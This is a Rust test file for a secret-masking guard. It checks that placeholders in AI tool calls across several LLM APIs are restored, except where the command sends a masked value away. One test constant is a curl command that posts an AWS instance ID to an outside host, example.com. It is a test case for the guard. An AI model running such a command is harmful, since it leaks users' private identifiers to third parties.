//! The guard over what tools are called with, in streams of every shape and in whole documents.

#![cfg(test)]
#![allow(clippy::string_slice, reason = "a test that slices wrongly should fail")]

mod masked;
mod shapes;

use std::rc::Rc;

use masked::mask;
use masking::dialect::Options;
use masking::{Answer, Guard, Hosts, Lookup, Media, Placeholder, Replaced, Response, Tally};
use serde_json::{Value, json};
use shapes::{Ending, SHAPES, Shape, parts};

const OWN: &str = "aws ec2 stop-instances --instance-ids i-0123456789abcdef0; ping -c 1 10.20.30.40";
const AWAY: &str = "curl -d i-0123456789abcdef0 https://example.com/";

struct Guarded(Replaced, Rc<Guard>);

impl Lookup for Guarded {
    fn lookup(&self, placeholder: &Placeholder) -> Answer {
        self.0.lookup(placeholder)
    }

    fn guard(&self) -> Option<Rc<Guard>> {
        Some(Rc::clone(&self.1))
    }
}

fn restore<'p>(media: Media, replaced: &Replaced, pieces: impl IntoIterator<Item = &'p [u8]>) -> (Vec<u8>, Tally) {
    let lookup = Guarded(replaced.clone(), Rc::new(Guard::new(Hosts::default())));
    let mut response = Response::new(media, Options::default(), Box::new(lookup));
    let mut out = Vec::new();
    pieces.into_iter().for_each(|piece| response.write(piece, &mut out));
    response.end(&mut out);
    let tally = response.tally().clone();
    assert_eq!((tally.unresolved, tally.degraded), (0, false), "{}", String::from_utf8_lossy(&out));
    (out, tally)
}

/// What a tool is called with, and what people read.
fn spoken(shape: &Shape, text: &str) -> String {
    if shape.in_json { json!({"command": text, "timeout": 5}).to_string() } else { text.to_owned() }
}

#[test]
fn every_shape_of_a_stream() {
    for (said, goes_away) in [(OWN, false), (AWAY, true)] {
        let masked = mask(said);
        let text = masked.body.clone().unwrap();
        for shape in SHAPES.iter() {
            let spoken_text = spoken(shape, &text);
            for size in [1, 3, 7, 40, 1_000] {
                let stream = shape.stream(&parts(&spoken_text, size), Ending::Lf);
                for declared in shape.declared() {
                    let name = format!("{}, {size} characters, {declared}, {said}", shape.name);
                    let media = Media::of(declared);
                    let (whole, tally) = restore(media, &masked.replaced, [stream.as_slice()]);
                    let read = shape.read(&whole);
                    let restored = read == spoken(shape, said);
                    assert!(restored || read == spoken_text, "{name}: all or nothing: {read}");
                    // Pieces of arguments of an API that is not known cannot be judged, unless one is all of them.
                    let is_judged = shape.is_known || !shape.in_json || size == 1_000;
                    assert_eq!(restored, is_judged && !(shape.in_json && goes_away), "{name}: {read}");
                    if shape.is_known && shape.in_json {
                        assert_eq!(tally.guarded, u64::from(goes_away), "{name}");
                    }
                    let (bytewise, _) = restore(media, &masked.replaced, stream.chunks(1));
                    assert!(bytewise == whole, "{name}");
                }
            }
        }
    }
}

/// Until the first placeholder the text arrives as it is said; then its events go on, without it, and its end brings it.
#[test]
fn a_call_waits_for_its_end_and_its_events_do_not() {
    let masked = mask(OWN);
    let text = masked.body.clone().unwrap();
    for shape in SHAPES.iter().filter(|shape| shape.is_known && shape.in_json) {
        let lookup = Guarded(masked.replaced.clone(), Rc::new(Guard::new(Hosts::default())));
        let mut response = Response::new(Media::of(shape.declared()[0]), Options::default(), Box::new(lookup));
        let mut seen = Vec::new();
        for event in shape.events(&parts(&spoken(shape, &text), 5), Ending::Lf) {
            let before = seen.len();
            response.write(&event, &mut seen);
            assert!(seen.len() > before, "{}: an event waits", shape.name);
        }
        response.end(&mut seen);
        assert_eq!(shape.read(&seen), spoken(shape, OWN), "{}", shape.name);
    }
}

/// Whole answers of every API: the call of a tool, beside a text for people.
#[test]
fn whole_documents() {
    type Answer = fn(&str, &Value) -> Value;
    let call = |text: &str, why: &str| json!({"command": text, "why": why});
    let documents: [(&str, Answer); 8] = [
        ("Anthropic", |text, call| {
            json!({"type": "message", "role": "assistant", "content": [
                {"type": "text", "text": text}, {"type": "tool_use", "id": "t", "name": "Bash", "input": call}]})
        }),
        ("Chat Completions", |text, call| {
            json!({"object": "chat.completion", "id": "c", "choices": [{"index": 0, "message": {"role": "assistant", "content": text,
                "tool_calls": [{"id": "t", "type": "function", "function": {"name": "sh", "arguments": call.to_string()}}]}}]})
        }),
        ("Responses", |text, call| {
            json!({"object": "response", "id": "r", "output": [
                {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]},
                {"type": "function_call", "call_id": "t", "name": "sh", "arguments": call.to_string()}]})
        }),
        ("a local shell", |text, call| {
            json!({"object": "response", "id": "r", "output": [
                {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]},
                {"type": "local_shell_call", "action": {"type": "exec", "command": ["bash", "-lc", call["command"]]}}]})
        }),
        ("Converse", |text, call| {
            json!({"stopReason": "tool_use", "output": {"message": {"role": "assistant", "content": [
                {"text": text}, {"toolUse": {"toolUseId": "t", "name": "sh", "input": call}}]}}})
        }),
        ("Gemini", |text, call| {
            json!({"candidates": [{"content": {"role": "model", "parts": [
                {"text": text}, {"functionCall": {"name": "sh", "args": call}}]}}]})
        }),
        ("Ollama", |text, call| {
            json!({"model": "m", "done": true, "message": {"role": "assistant", "content": text,
                "tool_calls": [{"function": {"name": "sh", "arguments": call}}]}})
        }),
        ("Cohere", |text, call| {
            json!({"id": "c", "message": {"role": "assistant", "content": [{"type": "text", "text": text}],
                "tool_calls": [{"id": "t", "type": "function", "function": {"name": "sh", "arguments": call.to_string()}}]}})
        }),
    ];
    for (said, goes_away) in [(OWN, false), (AWAY, true)] {
        let masked = mask(said);
        let text = masked.body.clone().unwrap();
        for (name, document) in &documents {
            let placeholder = text.split([' ', ';']).find(|word| word.starts_with("AWS_EC2_")).unwrap();
            let sent = document(&text, &call(&text, placeholder)).to_string();
            let expected = document(said, &call(if goes_away { &text } else { said }, "i-0123456789abcdef0"));
            for media in [Media::Json, Media::Lines] {
                let (out, tally) = restore(media, &masked.replaced, [sent.as_bytes()]);
                assert_eq!(serde_json::from_slice::<Value>(&out).unwrap(), expected, "{name}, {media:?}");
                assert_eq!(tally.guarded, u64::from(goes_away), "{name}");
            }
        }
    }
}
